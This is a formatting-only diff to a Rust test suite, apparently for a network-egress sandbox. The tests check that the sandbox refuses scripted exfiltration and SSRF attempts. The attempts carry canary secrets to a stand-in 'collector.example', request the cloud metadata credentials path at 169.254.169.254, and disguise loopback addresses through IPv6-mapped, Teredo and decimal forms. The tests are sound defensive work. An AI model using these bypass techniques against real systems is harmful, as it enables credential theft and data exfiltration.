@@ -4,7 +4,9 @@ use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6};
 
 use carboy_sim::probe::{Hello, Order, ServerNameField};
 
-use crate::attack::{Attack, CANARY_IS_KNOWN, NAME_SERVER, Outside, ask, get, has_v6, hello, pieces, plain, query, tls};
+use crate::attack::{
+    Attack, CANARY_IS_KNOWN, NAME_SERVER, Outside, ask, get, has_v6, hello, pieces, plain, query, tls,
+};
 use crate::world::{CANARY, Person, REAL_KEY, World, http};
 use crate::{Case, case, case_with};
 
@@ -35,12 +37,19 @@ fn without_proxy_variables(person: Person) {
     world.settings(CANARY_IS_KNOWN);
     let outside = Outside::new(&world);
     let mut attack = Attack::new(&world, Some(&outside));
-    for name in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy", "NO_PROXY", "no_proxy"] {
+    for name in
+        ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy", "NO_PROXY", "no_proxy"]
+    {
         assert_eq!(attack.order(&Order::Env { name: name.into() }).value, None, "{name}");
     }
     attack.works("an allowed host", &http("POST", "https://notes.example/sink", &[], b"an honest note"));
     let lan = outside.v4();
-    attack.refused("straight to an address", &order_to("http://collector.example/", lan), "address_not_allowed", &lan.ip().to_string());
+    attack.refused(
+        "straight to an address",
+        &order_to("http://collector.example/", lan),
+        "address_not_allowed",
+        &lan.ip().to_string(),
+    );
     attack.refused(
         "a secret to an allowed host",
         &http("POST", "https://notes.example/sink", &[], CANARY.as_bytes()),
@@ -90,16 +99,46 @@ fn plain_http(person: Person) {
     let mut attack = Attack::new(&world, Some(&outside));
     let (plain_at, notes) = (attack.at("plain.example", 80), attack.at("notes.example", 80));
     attack.works("an allowed plain host", &plain(plain_at, get("/sink", &["plain.example"])));
-    attack.refused("another address", &plain(outside.v4(), get("/", &["plain.example"])), "address_not_allowed", &outside.v4().ip().to_string());
-    attack.refused("another host by its field", &plain(plain_at, get("/", &["collector.example"])), "name_mismatch", "asked for collector.example");
-    attack.refused("another allowed host", &plain(plain_at, get("/", &["notes.example"])), "name_mismatch", "asked for notes.example");
-    attack.refused("a secret in a body", &http("POST", "http://notes.example/sink", &[], CANARY.as_bytes()), "secret_known", "request body");
-    attack.refused("a secret in a query", &plain(plain_at, get(&format!("/sink?q={CANARY}"), &["plain.example"])), "secret_known", "request line");
+    attack.refused(
+        "another address",
+        &plain(outside.v4(), get("/", &["plain.example"])),
+        "address_not_allowed",
+        &outside.v4().ip().to_string(),
+    );
+    attack.refused(
+        "another host by its field",
+        &plain(plain_at, get("/", &["collector.example"])),
+        "name_mismatch",
+        "asked for collector.example",
+    );
+    attack.refused(
+        "another allowed host",
+        &plain(plain_at, get("/", &["notes.example"])),
+        "name_mismatch",
+        "asked for notes.example",
+    );
+    attack.refused(
+        "a secret in a body",
+        &http("POST", "http://notes.example/sink", &[], CANARY.as_bytes()),
+        "secret_known",
+        "request body",
+    );
+    attack.refused(
+        "a secret in a query",
+        &plain(plain_at, get(&format!("/sink?q={CANARY}"), &["plain.example"])),
+        "secret_known",
+        "request line",
+    );
     let field = format!("GET /sink HTTP/1.1\r\nHost: notes.example\r\nX-Note: {CANARY}\r\nConnection: close\r\n\r\n");
     attack.refused("a secret in a field", &plain(notes, field), "secret_known", "request header");
     attack.refused("no host in HTTP/1.0", &plain(plain_at, "GET / HTTP/1.0\r\n\r\n"), "host_invalid", "plain.example");
     attack.closed("HTTP/0.9", &plain(plain_at, "GET /\r\n"), "protocol_refused", "plain.example");
-    attack.closed("HTTP/2 by prior knowledge", &plain(plain_at, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), "protocol_refused", "plain.example");
+    attack.closed(
+        "HTTP/2 by prior knowledge",
+        &plain(plain_at, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+        "protocol_refused",
+        "plain.example",
+    );
     attack.finish();
 }
 
@@ -116,11 +155,21 @@ fn other_ports(person: Person) {
         attack.refused(&elsewhere.to_string(), &plain(elsewhere, get("/", &[&host])), "address_not_allowed", &shown);
     }
     let notes = attack.at("notes.example", 8443);
-    attack.refused("TLS", &tls(notes, "notes.example", get("/", &["notes.example:8443"])), "port_not_allowed", "\"port\":8443");
+    attack.refused(
+        "TLS",
+        &tls(notes, "notes.example", get("/", &["notes.example:8443"])),
+        "port_not_allowed",
+        "\"port\":8443",
+    );
     let notes = attack.at("notes.example", 5433);
     attack.closed("a database's first words", &plain(notes, postgres), "port_not_allowed", "\"port\":5433");
     let silent = Order::Raw { address: outside.v4(), tls: None, pieces: vec![], pause_ms: 0, quiet_ms: 100 };
-    attack.closed("a connection without a byte", &silent, "address_not_allowed", &format!("\"port\":{}", outside.v4().port()));
+    attack.closed(
+        "a connection without a byte",
+        &silent,
+        "address_not_allowed",
+        &format!("\"port\":{}", outside.v4().port()),
+    );
     // UDP has no gateway: it is refused by the bottle's own kernel.
     attack.nothing_there("a datagram", &ask(outside.v4(), CANARY.into()));
     attack.nothing_there("QUIC's port", &ask(SocketAddr::new(outside.v4().ip(), 443), CANARY.into()));
@@ -133,14 +182,29 @@ fn gateway_port(person: Person) {
     let outside = Outside::new(&world);
     let mut attack = Attack::new(&world, Some(&outside));
     let request = get("/sink", &["notes.example"]);
-    let mut addresses = vec![outside.v4().ip(), Ipv4Addr::new(127, 0, 0, 1).into(), Ipv4Addr::new(127, 9, 9, 9).into(), Ipv4Addr::new(169, 254, 1, 1).into()];
+    let mut addresses = vec![
+        outside.v4().ip(),
+        Ipv4Addr::new(127, 0, 0, 1).into(),
+        Ipv4Addr::new(127, 9, 9, 9).into(),
+        Ipv4Addr::new(169, 254, 1, 1).into(),
+    ];
     if has_v6() {
         addresses.extend([outside.v6().ip(), Ipv6Addr::LOCALHOST.into()]);
     }
     for ip in addresses {
         let address = SocketAddr::new(ip, GATEWAY_PORT);
-        attack.refused(&address.to_string(), &plain(address, request.clone()), "address_not_allowed", &format!("\"host\":\"{ip}\""));
-        attack.refused(&format!("{address} by TLS"), &tls(address, "notes.example", request.clone()), "address_not_allowed", &format!("\"host\":\"{ip}\""));
+        attack.refused(
+            &address.to_string(),
+            &plain(address, request.clone()),
+            "address_not_allowed",
+            &format!("\"host\":\"{ip}\""),
+        );
+        attack.refused(
+            &format!("{address} by TLS"),
+            &tls(address, "notes.example", request.clone()),
+            "address_not_allowed",
+            &format!("\"host\":\"{ip}\""),
+        );
     }
     let notes = attack.at("notes.example", GATEWAY_PORT);
     attack.refused("an allowed name", &tls(notes, "notes.example", request), "port_not_allowed", "notes.example");
@@ -152,14 +216,16 @@ fn address_literals(person: Person) {
     let world = World::new(person);
     let outside = Outside::new(&world);
     let mut attack = Attack::new(&world, Some(&outside));
-    let mut there = vec![outside.v4(), SocketAddr::from(([203, 0, 113, 1], 443)), SocketAddr::from(([198, 19, 255, 1], 443))];
+    let mut there =
+        vec![outside.v4(), SocketAddr::from(([203, 0, 113, 1], 443)), SocketAddr::from(([198, 19, 255, 1], 443))];
     if has_v6() {
         there.extend([outside.v6(), SocketAddr::from((Ipv6Addr::new(0x2606, 0x4700, 0, 0, 0, 0, 0, 0x1111), 443))]);
     }
     for address in there {
         let shown = format!("\"host\":\"{}\"", address.ip());
         let own = address.to_string();
-        let mut try_it = |what: &str, order| attack.refused(&format!("{own}: {what}"), &order, "address_not_allowed", &shown);
+        let mut try_it =
+            |what: &str, order| attack.refused(&format!("{own}: {what}"), &order, "address_not_allowed", &shown);
         try_it("plain", plain(address, get("/", &[&own])));
         try_it("plain, in an allowed name", plain(address, get("/", &["notes.example"])));
         try_it("TLS without a server name", tls(address, &address.ip().to_string(), get("/", &[&own])));
@@ -170,7 +236,12 @@ fn address_literals(person: Person) {
     let hello = [b"\x16\x03\x01\x00\x04junk".to_vec(), b"\x16\x03\x01\xff\xff".to_vec()];
     for (number, bytes) in hello.into_iter().enumerate() {
         let address = SocketAddr::from(([203, 0, 113, 20 + number as u8], 443));
-        attack.closed("a handshake that is none", &plain(address, bytes), "address_not_allowed", &address.ip().to_string());
+        attack.closed(
+            "a handshake that is none",
+            &plain(address, bytes),
+            "address_not_allowed",
+            &address.ip().to_string(),
+        );
     }
     attack.finish();
     assert_eq!(world.provider.requests(), 0);
@@ -208,7 +279,12 @@ fn odd_bases(person: Person) {
         attack.no_such_name(name, &ask(NAME_SERVER, query(name, 1)), "name_not_allowed", name);
     }
     attack.refused("0", &tls(notes, "notes.example", get("/", &["0"])), "name_mismatch", "asked for 0.0.0.0");
-    attack.refused("a number that is no address", &tls(notes, "notes.example", get("/", &["127.0.0.999"])), "host_invalid", "notes.example");
+    attack.refused(
+        "a number that is no address",
+        &tls(notes, "notes.example", get("/", &["127.0.0.999"])),
+        "host_invalid",
+        "notes.example",
+    );
     attack.finish();
     assert_eq!(world.provider.requests(), 0);
 }
@@ -227,7 +303,11 @@ fn wrapped_addresses(person: Person) {
             ("6to4", Ipv6Addr::new(0x2002, high, low, 0, 0, 0, 0, 1), "2002:".into()),
             ("Teredo", Ipv6Addr::new(0x2001, 0, 0, 0, 0, 0, high, low), "2001:".into()),
             ("compatible", Ipv6Addr::new(0, 0, 0, 0, 0, 0, high, low), "\"host\":\"::".into()),
-            ("mapped metadata", Ipv4Addr::new(169, 254, 169, 254).to_ipv6_mapped(), "\"host\":\"169.254.169.254\"".into()),
+            (
+                "mapped metadata",
+                Ipv4Addr::new(169, 254, 169, 254).to_ipv6_mapped(),
+                "\"host\":\"169.254.169.254\"".into(),
+            ),
         ];
         for (what, address, shown) in wrapped {
             let address = SocketAddr::new(IpAddr::V6(address), port);
@@ -250,7 +330,12 @@ fn wrapped_addresses(person: Person) {
     ] {
         attack.refused(text, &tls(notes, "notes.example", get("/", &[text])), "name_mismatch", shown);
     }
-    attack.refused("brackets that do not close", &tls(notes, "notes.example", get("/", &["[::1"])), "host_invalid", "notes.example");
+    attack.refused(
+        "brackets that do not close",
+        &tls(notes, "notes.example", get("/", &["[::1"])),
+        "host_invalid",
+        "notes.example",
+    );
     attack.finish();
     assert_eq!(world.provider.requests(), 0);
 }
@@ -264,12 +349,32 @@ fn credential_to_another(person: Person) {
     attack.works("the model itself", &http("GET", "https://api.anthropic.com/v1/models", &fake, b""));
     let request = get("/v1/models", &[model]);
     let (notes, lan) = (attack.at("notes.example", 443), outside.v4());
-    attack.refused("an attacker's address by TLS", &tls(lan, model, request.clone()), "address_not_allowed", &lan.ip().to_string());
+    attack.refused(
+        "an attacker's address by TLS",
+        &tls(lan, model, request.clone()),
+        "address_not_allowed",
+        &lan.ip().to_string(),
+    );
     attack.refused("an attacker's address", &plain(lan, request.clone()), "address_not_allowed", &lan.ip().to_string());
-    attack.refused("another allowed host by server name and Host", &tls(notes, model, request.clone()), "name_mismatch", model);
-    attack.refused("another allowed host by Host", &tls(notes, "notes.example", request.clone()), "name_mismatch", model);
+    attack.refused(
+        "another allowed host by server name and Host",
+        &tls(notes, model, request.clone()),
+        "name_mismatch",
+        model,
+    );
+    attack.refused(
+        "another allowed host by Host",
+        &tls(notes, "notes.example", request.clone()),
+        "name_mismatch",
+        model,
+    );
     let absolute = get("https://api.anthropic.com/v1/models", &["notes.example"]);
-    attack.refused("another allowed host by the target", &tls(notes, "notes.example", absolute), "name_mismatch", model);
+    attack.refused(
+        "another allowed host by the target",
+        &tls(notes, "notes.example", absolute),
+        "name_mismatch",
+        model,
+    );
     let plain_at = attack.at("plain.example", 80);
     attack.refused("a plain host", &plain(plain_at, request), "name_mismatch", model);
     attack.works("another host with the fake", &http("GET", "https://notes.example/sink", &fake, b""));
@@ -292,7 +397,12 @@ fn metadata(person: Person) {
         let shown = format!("\"host\":\"{ip}\"");
         let path = "/latest/meta-data/iam/security-credentials/";
         attack.refused(text, &plain(SocketAddr::new(ip, 80), get(path, &[text])), "address_not_allowed", &shown);
-        attack.refused(text, &plain(SocketAddr::new(ip, 80), get(path, &["notes.example"])), "address_not_allowed", &shown);
+        attack.refused(
+            text,
+            &plain(SocketAddr::new(ip, 80), get(path, &["notes.example"])),
+            "address_not_allowed",
+            &shown,
+        );
         attack.refused(text, &tls(SocketAddr::new(ip, 443), text, get(path, &[text])), "address_not_allowed", &shown);
     }
     for name in ["metadata.google.internal", "metadata", "instance-data", "169.254.169.254.notes.example"] {
@@ -304,7 +414,8 @@ fn metadata(person: Person) {
 
 /// Routes to these hosts on this port, with `more` lines each.
 fn routes_to(names: &[&str], port: u16, more: &str) -> String {
-    let routes: String = names.iter().map(|name| format!("    - host: {name}\n      ports: [{port}]\n{more}")).collect();
+    let routes: String =
+        names.iter().map(|name| format!("    - host: {name}\n      ports: [{port}]\n{more}")).collect();
     format!("egress:\n  routes:\n{routes}")
 }
 
@@ -315,7 +426,12 @@ fn none_is_dialled(world: &World, outside: &Outside, names: &[&str], port: u16) 
         let (address, host) = (attack.at(name, port), format!("{name}:{port}"));
         let shown = format!("{name} resolves to");
         attack.refused(name, &plain(address, get("/", &[&host])), "address_not_public", &shown);
-        attack.refused(&format!("{name} by TLS"), &tls(address, name, get("/", &[&host])), "address_not_public", &shown);
+        attack.refused(
+            &format!("{name} by TLS"),
+            &tls(address, name, get("/", &[&host])),
+            "address_not_public",
+            &shown,
+        );
     }
     attack.finish();
 }
@@ -325,11 +441,17 @@ fn names_of_this_machine(person: Person) {
     let outside = Outside::new(&world);
     let port = world.canary.tcp_addr.port();
     // What is this machine for sure is no route at all.
-    for host in ["localhost", "127.0.0.1", "2130706433", "127.1", "::1", "::ffff:127.0.0.1", "169.254.169.254", "fd00:ec2::254"] {
+    for host in
+        ["localhost", "127.0.0.1", "2130706433", "127.1", "::1", "::ffff:127.0.0.1", "169.254.169.254", "fd00:ec2::254"]
+    {
         for private in ["", "      private: true\n"] {
             world.bottle(&routes_to(&[&format!("'{host}'")], port, private));
             let ran = world.run(&["true"]);
-            assert!(ran.code != 0 && ran.entries.is_empty() && ran.stderr.contains("`host` of route 1"), "{host}: {}", ran.stderr);
+            assert!(
+                ran.code != 0 && ran.entries.is_empty() && ran.stderr.contains("`host` of route 1"),
+                "{host}: {}",
+                ran.stderr
+            );
         }
     }
     // Other names that this machine has for itself are found out when they are to be dialled.
@@ -363,7 +485,11 @@ fn rebound_names(person: Person) {
         ("link.example", "fe80::1".to_owned()),
         ("many.example", "255.255.255.255".to_owned()),
     ];
-    let network = [("lan.example", lan.to_string()), ("ten.example", "10.255.255.254".to_owned()), ("unique.example", "fdff::1".to_owned())];
+    let network = [
+        ("lan.example", lan.to_string()),
+        ("ten.example", "10.255.255.254".to_owned()),
+        ("unique.example", "fdff::1".to_owned()),
+    ];
     let file: String = addresses.iter().chain(&network).map(|(name, ip)| format!("{ip} {name}\n")).collect();
     world.write("hosts", &file);
     world.hosts = Some(world.dir.join("hosts"));
